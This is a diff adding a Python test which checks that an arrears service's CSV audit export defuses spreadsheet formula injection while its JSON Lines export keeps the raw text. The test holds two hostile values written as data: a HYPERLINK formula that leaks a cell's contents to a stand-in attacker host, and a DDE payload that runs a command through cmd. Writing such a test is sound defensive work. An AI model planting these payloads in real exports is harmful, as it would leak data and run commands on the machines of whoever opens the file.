@@ -7,12 +7,14 @@ import io
 import json
 from collections.abc import AsyncIterator
 from datetime import UTC, datetime, timedelta
+from typing import Any
 
 import httpx
 
 from arrears.settings import Settings
 from models.enums import Role
 from tests.api.conftest import Auth
+from tests.api.test_end_to_end import eventually
 from tests.factories import delinquency
 
 
@@ -118,3 +120,54 @@ async def test_a_streamed_body_over_the_limit_is_413(
         "code": "payload_too_large",
         "message": f"request body over {settings.max_request_bytes} bytes",
     }
+
+
+FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'
+HOSTILE_ACTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def test_the_csv_export_carries_no_formula(client: httpx.AsyncClient, auth: Auth) -> None:
+    """A reason and an actor that a spreadsheet would run as formulas are exported as text (a
+    leading quote); the JSON Lines export keeps them as they were written."""
+    team = "formula-team"
+    row = delinquency(days_past_due=10, as_of=datetime.now(UTC).date().isoformat(), team=team)
+    opened = await client.post("/v1/delinquencies", json={"records": [row]}, headers=auth(Role.SUPERVISOR))
+    case_id = opened.json()["case_ids"][0]
+    hostile = auth(Role.SUPERVISOR, HOSTILE_ACTOR, team=team)
+
+    async def live_contact() -> dict[str, Any] | None:
+        page = (
+            await client.get("/v1/tasks", params={"kind": "live_contact", "team": team}, headers=hostile)
+        ).json()
+        return next((t for t in page["items"] if t["case_id"] == case_id), None)
+
+    task = await eventually(live_contact, "the live-contact task")
+    assert (await client.post(f"/v1/tasks/{task['id']}/claim", headers=hostile)).status_code == 200
+    done = await client.post(
+        f"/v1/tasks/{task['id']}/complete", json={"decision": "contacted", "reason": FORMULA}, headers=hostile
+    )
+    assert done.status_code == 200, done.text
+    officer = auth(Role.COMPLIANCE)
+
+    async def exported() -> list[dict[str, str]] | None:
+        reply = await client.get(
+            "/v1/audit/export", params={"case_id": case_id, "format": "csv"}, headers=officer
+        )
+        rows = list(csv.DictReader(io.StringIO(reply.text)))
+        return rows if any(r["action"] == "task.done" for r in rows) else None
+
+    rows = await eventually(exported, "the decision in the trail")
+    claimed = next(r for r in rows if r["action"] == "task.claimed")
+    decided = next(r for r in rows if r["action"] == "task.done")
+    assert claimed["actor"] == "'" + HOSTILE_ACTOR
+    assert decided["reason"] == "'" + FORMULA and decided["actor"] == "'" + HOSTILE_ACTOR
+    for exported_row in rows:
+        for column, value in exported_row.items():
+            assert not value.startswith(DANGEROUS) or value.lstrip("-").isdigit(), (column, value)
+
+    jsonl = await client.get(
+        "/v1/audit/export", params={"case_id": case_id, "format": "jsonl"}, headers=officer
+    )
+    events = [json.loads(line) for line in jsonl.text.splitlines()]
+    assert any(e["reason"] == FORMULA and e["actor"] == HOSTILE_ACTOR for e in events)
